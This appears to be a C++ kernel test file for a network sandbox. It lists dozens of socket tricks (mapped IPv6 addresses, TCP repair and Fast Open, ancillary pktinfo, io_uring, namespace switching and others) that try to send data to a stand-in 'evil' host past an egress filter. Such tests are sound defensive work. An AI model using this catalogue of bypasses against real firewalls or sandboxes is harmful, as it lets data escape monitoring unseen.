#include <linux/tcp.h>
#include <linux/udp.h>
#include <netinet/ip.h>
#include <sched.h>
#include <sys/uio.h>

#include <cstring>
#include <span>

#include "tests/kernel/escape_actions.h"
#include "tests/kernel/support/client.h"
#include "tests/kernel/support/control_message.h"

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif

namespace namewall::kernel_tests {
namespace {

const char kData[] = "data";

SocketAddress evil4() { return {ip(kEvil4), 443}; }
SocketAddress evil6() { return {ip(kEvil6), 443}; }
SocketAddress allowed4() { return {ip(kAllowed4), 443}; }
SocketAddress allowed6() { return {ip(kAllowed6), 443}; }

void connect_to(const OwnedFd& socket, const SocketAddress& to) { connect(socket.get(), to.get(), to.length); }
void send_to(const OwnedFd& socket, const SocketAddress& to, int flags = 0) {
  sendto(socket.get(), kData, sizeof(kData), flags | MSG_NOSIGNAL, to.get(), to.length);
}
void send_on(const OwnedFd& socket, int flags = 0) { send(socket.get(), kData, sizeof(kData), flags | MSG_NOSIGNAL); }
void set(const OwnedFd& socket, int level, int option, int value) {
  setsockopt(socket.get(), level, option, &value, sizeof(value));
}
// A handshake would block for a minute when its SYN is swallowed.
OwnedFd tcp_socket(int family, int protocol = 0) { return make_socket(family, SOCK_STREAM | SOCK_NONBLOCK, protocol); }
OwnedFd udp_socket(int family) { return make_socket(family, SOCK_DGRAM); }

void disconnect(const OwnedFd& socket) {
  const sockaddr unspecified{AF_UNSPEC, {}};
  connect(socket.get(), &unspecified, sizeof(unspecified));
}

void send_many(const OwnedFd& socket, const SocketAddress& first, const SocketAddress& second) {
  SocketAddress targets[] = {first, second};
  iovec part{const_cast<char*>(kData), sizeof(kData)};
  mmsghdr messages[2] = {};
  for (int i = 0; i < 2; ++i) {
    messages[i].msg_hdr.msg_name = targets[i].get();
    messages[i].msg_hdr.msg_namelen = targets[i].length;
    messages[i].msg_hdr.msg_iov = &part;
    messages[i].msg_hdr.msg_iovlen = 1;
  }
  sendmmsg(socket.get(), messages, 2, 0);
}

// A control message that changes where a datagram really goes or seems to come from.
template <typename T>
void send_beside(const OwnedFd& socket, const SocketAddress& to, int level, int type, const T& value) {
  send_with_control(socket.get(), to, std::as_bytes(std::span(kData)),
                    {level, type, std::as_bytes(std::span(&value, 1))});
}

void add_tcp(std::vector<EscapeAction>& actions) {
  actions.push_back({"tcp-connect", [] { connect_to(tcp_socket(AF_INET), evil4()); }});
  actions.push_back({"tcp6-connect", [] { connect_to(tcp_socket(AF_INET6), evil6()); }});
  actions.push_back(
      {"tcp-connect-mapped", [] { connect_to(tcp_socket(AF_INET6), SocketAddress::mapped(ip(kEvil4), 443)); }});
  actions.push_back({"tcp-mark-and-device", [] {
                       const auto s = tcp_socket(AF_INET);
                       set(s, SOL_SOCKET, SO_MARK, 0x7fff);
                       setsockopt(s.get(), SOL_SOCKET, SO_BINDTODEVICE, "nwh-near", 9);
                       connect_to(s, evil4());
                     }});
  actions.push_back({"tcp-repair", [] {
                       const auto s = tcp_socket(AF_INET);
                       set(s, IPPROTO_TCP, TCP_REPAIR, 1);
                       connect_to(s, evil4());
                       set(s, IPPROTO_TCP, TCP_REPAIR, 0);
                       send_on(s);
                     }});
  actions.push_back({"tcp-unspec-reconnect", [] {
                       const auto s = make_socket(AF_INET, SOCK_STREAM);
                       connect_to(s, allowed4());
                       disconnect(s);
                       connect_to(s, evil4());
                     }});
  actions.push_back({"tfo-sendto", [] { send_to(tcp_socket(AF_INET), evil4(), MSG_FASTOPEN); }});
  actions.push_back({"tfo6-sendto", [] { send_to(tcp_socket(AF_INET6), evil6(), MSG_FASTOPEN); }});
  actions.push_back({"tfo-sendto-mapped",
                     [] { send_to(tcp_socket(AF_INET6), SocketAddress::mapped(ip(kEvil4), 443), MSG_FASTOPEN); }});
  actions.push_back({"tfo-connect", [] {
                       const auto s = tcp_socket(AF_INET);
                       set(s, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1);
                       connect_to(s, evil4());
                       send_on(s);
                     }});
  actions.push_back({"mptcp-connect", [] { connect_to(tcp_socket(AF_INET, IPPROTO_MPTCP), evil4()); }});
  actions.push_back({"mptcp-connect-mapped",
                     [] { connect_to(tcp_socket(AF_INET6, IPPROTO_MPTCP), SocketAddress::mapped(ip(kEvil4), 443)); }});
  actions.push_back({"mptcp-tfo", [] { send_to(tcp_socket(AF_INET, IPPROTO_MPTCP), evil4(), MSG_FASTOPEN); }});
  actions.push_back({"io-uring-connect", [] {
                       const auto s = make_socket(AF_INET, SOCK_STREAM);
                       const auto to = evil4();
                       io_uring_connect(s.get(), to.get(), to.length);
                     }});
  actions.push_back({"smc-connect", [] { connect_to(tcp_socket(43 /* AF_SMC */), evil4()); }});
}

void add_udp(std::vector<EscapeAction>& actions) {
  actions.push_back({"udp-sendto", [] { send_to(udp_socket(AF_INET), evil4()); }});
  actions.push_back({"udp6-sendto", [] { send_to(udp_socket(AF_INET6), evil6()); }});
  actions.push_back({"udp-connect-send", [] {
                       const auto s = udp_socket(AF_INET);
                       connect_to(s, evil4());
                       send_on(s);
                     }});
  actions.push_back({"udp-mapped-connect-send", [] {
                       const auto s = udp_socket(AF_INET6);
                       connect_to(s, SocketAddress::mapped(ip(kEvil4), 443));
                       send_on(s);
                     }});
  actions.push_back(
      {"udp-mapped-sendto", [] { send_to(udp_socket(AF_INET6), SocketAddress::mapped(ip(kEvil4), 443)); }});
  actions.push_back({"udp-connected-sendto-other", [] {
                       const auto s = udp_socket(AF_INET);
                       connect_to(s, allowed4());
                       send_on(s);
                       send_to(s, evil4());
                     }});
  actions.push_back({"udp6-connected-sendto-other", [] {
                       const auto s = udp_socket(AF_INET6);
                       connect_to(s, allowed6());
                       send_on(s);
                       send_to(s, evil6());
                     }});
  actions.push_back({"udp-reconnect", [] {
                       const auto s = udp_socket(AF_INET);
                       connect_to(s, allowed4());
                       send_on(s);
                       connect_to(s, evil4());
                       send_on(s);
                     }});
  actions.push_back({"udp-unspec-then-sendto", [] {
                       const auto s = udp_socket(AF_INET);
                       connect_to(s, allowed4());
                       send_on(s);
                       disconnect(s);
                       send_to(s, evil4());
                       connect_to(s, evil4());
                       send_on(s);
                     }});
  actions.push_back({"udp-sendto-family-0", [] {
                       auto to = evil4();
                       to.get()->sa_family = AF_UNSPEC;
                       send_to(udp_socket(AF_INET), to);
                     }});
  actions.push_back({"udp-sendmmsg", [] { send_many(udp_socket(AF_INET), allowed4(), evil4()); }});
  actions.push_back({"udp6-sendmmsg-mapped",
                     [] { send_many(udp_socket(AF_INET6), allowed6(), SocketAddress::mapped(ip(kEvil4), 443)); }});
  actions.push_back({"udp-transparent", [] {
                       const auto s = udp_socket(AF_INET);
                       set(s, IPPROTO_IP, IP_TRANSPARENT, 1);
                       const SocketAddress source(ip(kAllowed4), 5000);
                       bind(s.get(), source.get(), source.length);
                       send_to(s, evil4());
                     }});
  actions.push_back({"udp-cork-then-other", [] {
                       const auto s = udp_socket(AF_INET);
                       send_to(s, allowed4(), MSG_MORE);
                       send_to(s, evil4());
                       set(s, IPPROTO_UDP, UDP_CORK, 0);
                     }});
  actions.push_back({"udp-cork-then-connect", [] {
                       const auto s = udp_socket(AF_INET);
                       send_to(s, allowed4(), MSG_MORE);
                       connect_to(s, evil4());
                       send_on(s);
                     }});
  actions.push_back({"udp-ancillary", [] {
                       // QUIC's shape: an ancillary message makes sendmsg4 see 0.0.0.0 on connected sockets.
                       const auto s = udp_socket(AF_INET);
                       const int tos = 4;
                       send_beside(s, evil4(), IPPROTO_IP, IP_TOS, tos);
                       connect_to(s, allowed4());
                       send_beside(s, evil4(), IPPROTO_IP, IP_TOS, tos);
                     }});
  actions.push_back({"udp-pktinfo", [] {
                       in_pktinfo info{};
                       std::memcpy(&info.ipi_spec_dst, ip(kEvil4).v4_bytes().data(), 4);
                       info.ipi_addr = info.ipi_spec_dst;
                       send_beside(udp_socket(AF_INET), allowed4(), IPPROTO_IP, IP_PKTINFO, info);
                       in6_pktinfo info6{};
                       std::memcpy(&info6.ipi6_addr, ip(kEvil6).bytes().data(), 16);
                       send_beside(udp_socket(AF_INET6), allowed6(), IPPROTO_IPV6, IPV6_PKTINFO, info6);
                     }});
  actions.push_back({"udp-addrform", [] {
                       const auto s = udp_socket(AF_INET6);
                       connect_to(s, SocketAddress::mapped(ip(kAllowed4), 443));
                       set(s, IPPROTO_IPV6, IPV6_ADDRFORM, AF_INET);
                       send_to(s, evil4());
                       connect_to(s, evil4());
                       send_on(s);
                     }});
  actions.push_back({"udp-segment", [] {
                       const auto s = udp_socket(AF_INET);
                       set(s, IPPROTO_UDP, UDP_SEGMENT, 2);
                       send_to(s, evil4());
                     }});
  actions.push_back({"io-uring-sendmsg", [] {
                       const auto s = udp_socket(AF_INET);
                       auto to = evil4();
                       iovec part{const_cast<char*>(kData), sizeof(kData)};
                       msghdr message{};
                       message.msg_name = to.get();
                       message.msg_namelen = to.length;
                       message.msg_iov = &part;
                       message.msg_iovlen = 1;
                       io_uring_sendmsg(s.get(), &message);
                     }});
  actions.push_back({"udp-new-netns-same-cgroup", [] {
                       // The socket of the old namespace is used from within the new one.
                       const auto s = udp_socket(AF_INET);
                       unshare(CLONE_NEWNET);
                       send_to(s, evil4());
                     }});
}

void add_other_protocols(std::vector<EscapeAction>& actions) {
  actions.push_back({"udplite-connect-send", [] {
                       const auto s = make_socket(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE);
                       connect_to(s, evil4());
                       send_on(s);
                     }});
  actions.push_back({"udplite-sendto", [] { send_to(make_socket(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE), evil4()); }});
  actions.push_back({"ping-sendto", [] {
                       const unsigned char echo[8] = {8, 0, 0, 0, 0, 1, 0, 1};
                       const auto to = evil4();
                       sendto(make_socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP).get(), echo, 8, 0, to.get(), to.length);
                     }});
  actions.push_back({"ping-connect-send", [] {
                       const unsigned char echo[8] = {8, 0, 0, 0, 0, 1, 0, 1};
                       const auto s = make_socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
                       connect_to(s, evil4());
                       send(s.get(), echo, 8, 0);
                     }});
  actions.push_back({"ping6-sendto", [] {
                       const unsigned char echo[8] = {128, 0, 0, 0, 0, 1, 0, 1};
                       const auto to = evil6();
                       sendto(make_socket(AF_INET6, SOCK_DGRAM, IPPROTO_ICMPV6).get(), echo, 8, 0, to.get(), to.length);
                     }});
  actions.push_back({"sctp", [] { connect_to(make_socket(AF_INET, SOCK_STREAM, IPPROTO_SCTP), evil4()); }});
  actions.push_back({"dccp", [] { connect_to(make_socket(AF_INET, 6 /* SOCK_DCCP */, IPPROTO_DCCP), evil4()); }});
}

}  // namespace

std::vector<EscapeAction> socket_escapes() {
  std::vector<EscapeAction> actions;
  add_tcp(actions);
  add_udp(actions);
  add_other_protocols(actions);
  return actions;
}

}  // namespace namewall::kernel_tests
